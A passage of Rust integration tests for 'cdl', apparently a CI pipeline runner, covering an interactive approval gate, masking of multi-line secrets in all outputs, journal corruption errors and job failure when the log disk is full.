    // `script` gives cdl a pseudo-terminal; the answer is typed once the prompt is up.
    let project = Project::new(
        r#"pipeline p {
        stage build { job compile { run = "echo compiled" } }
        stage release { gate ship { approvers = ["alice"]; message = "Ship it?" } }
        stage deploy { job publish { run = "touch published" } }
    }"#,
    );
    let cdl = assert_cmd::cargo::cargo_bin!("cdl").display().to_string();
    let mut child = Command::new("script")
        .args([
            "-qec",
            &format!("{cdl} run pipeline.cdl --as alice"),
            "/dev/null",
        ])
        .current_dir(project.path())
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .expect("script(1) runs");
    let mut stdout = child.stdout.take().unwrap();
    let reader = std::thread::spawn(move || {
        let mut seen = Vec::new();
        let mut buffer = [0u8; 4096];
        while let Ok(n) = std::io::Read::read(&mut stdout, &mut buffer) {
            if n == 0 {
                break;
            }
            seen.extend_from_slice(&buffer[..n]);
        }
        String::from_utf8_lossy(&seen).into_owned()
    });
    let store = cdl::run::record::Store::new(project.path().join(".cdl"));
    let compiled = || {
        let id = store.run_ids().pop()?;
        let record = store.load(&id).ok()?;
        (record.job("compile").state == cdl::run::record::JobState::Succeeded).then_some(())
    };
    let until = Instant::now() + Duration::from_secs(20);
    while compiled().is_none() {
        assert!(Instant::now() < until, "compile never finished");
        std::thread::sleep(Duration::from_millis(50));
    }
    std::thread::sleep(Duration::from_millis(300));
    std::io::Write::write_all(child.stdin.as_mut().unwrap(), b"y\n").unwrap();
    assert!(child.wait().unwrap().success());
    let screen = reader.join().unwrap();
    assert!(screen.contains("0/3"), "the live view's progress: {screen}");
    assert!(
        screen.contains("approve ship? Ship it? (as alice) [y/N]"),
        "{screen}"
    );
    assert!(project.path().join("published").exists());
    let decision = &project.latest_record()["jobs"]["ship"]["decisions"][0];
    assert_eq!(decision["by"], "alice");
    assert_eq!(decision["comment"], "answered at the terminal");
}

#[test]
fn a_secret_spanning_lines_or_ending_in_one_is_masked_everywhere() {
    // Finding 5: masking was per line.
    let project = Project::new(
        r#"pipeline p {
        secret TOKEN
        stage s { job leak {
            run = "printf 'a%sb\n' \"$TOKEN\"; printf '%s' \"$TOKEN\" | head -c 9; echo; printf '%s' \"$TOKEN\" | tail -c 12; echo; printf '%s' \"$TOKEN\"; exit 1"
            secrets = [TOKEN]
        } }
    }"#,
    );
    let out = project
        .command(&["run", "pipeline.cdl", "--junit", "junit.xml"])
        .env("TOKEN", "first-half-9f3a\nsecond-half-77c1\n")
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    let mut shown = text(&out.stdout);
    shown.push_str(&text(&out.stderr));
    shown.push_str(&project.read("junit.xml"));
    for entry in walk(&project.path().join(".cdl")) {
        shown.push_str(&std::fs::read_to_string(&entry).unwrap_or_default());
    }
    let id = project.latest_record()["id"].as_str().unwrap().to_string();
    shown.push_str(&text(&project.cdl(&["logs", &id, "leak"]).stdout));
    for part in ["first-half-9f3a", "second-half-77c1"] {
        assert!(!shown.contains(part), "{part} shown in clear:\n{shown}");
    }
    assert!(
        project
            .read(&format!(".cdl/runs/{id}/logs/leak.log"))
            .contains("a***b")
    );
}

#[test]
fn a_damaged_journal_line_is_an_error_naming_file_and_line() {
    let project = Project::new(
        r#"pipeline p { stage s { job a { run = "true" } job b { run = "touch b.started; sleep 30" } } }"#,
    );
    let mut child = project.spawn(&["run", "pipeline.cdl"]);
    project.wait_for("b.started");
    signal(child.id(), libc::SIGKILL);
    child.wait().unwrap();
    let id = project.latest_record()["id"].as_str().unwrap().to_string();
    let journal = project.path().join(format!(".cdl/runs/{id}/journal.jsonl"));
    let mut bytes = std::fs::read(&journal).unwrap();
    assert!(
        bytes.iter().filter(|b| **b == b'\n').count() >= 2,
        "entries were journaled"
    );
    bytes[1] = b'#';
    std::fs::write(&journal, &bytes).unwrap();
    let out = project.cdl(&["resume"]);
    assert_eq!(out.status.code(), Some(2));
    assert!(
        text(&out.stderr).contains("journal.jsonl:1:"),
        "{}",
        text(&out.stderr)
    );
    // What the dead run left is still stopped by hand here: its supervisor lives on.
    let record_dir = project.path().join(format!(".cdl/runs/{id}/attempts"));
    for lock in walk(&record_dir) {
        let pid: i32 = std::fs::read_to_string(&lock)
            .unwrap_or_default()
            .split_whitespace()
            .next()
            .and_then(|p| p.parse().ok())
            .unwrap_or(0);
        if pid > 0 {
            signal(pid as u32, libc::SIGTERM);
        }
    }
}

#[test]
fn a_log_cut_by_a_full_disk_fails_the_job_instead_of_passing_silently() {
    // Finding 8: the log's writes fail with ENOSPC (the log is pointed at /dev/full).
    let project = Project::new(
        r#"pipeline p { stage s { job j { run = [
            "mkdir -p .cdl/runs/$CDL_RUN_ID/logs && ln -s /dev/full .cdl/runs/$CDL_RUN_ID/logs/j.log",
            "echo this line cannot be kept"
        ] } } }"#,
    );
    let out = project.run(&[]);
    assert_eq!(out.status.code(), Some(1), "{}", text(&out.stdout));
    let record = project.latest_record();
    let reason = record["jobs"]["j"]["reason"].as_str().unwrap_or_default();
    assert!(
        reason.contains("could not be written to its log") && reason.contains("No space left"),
        "{reason}"
    );
}
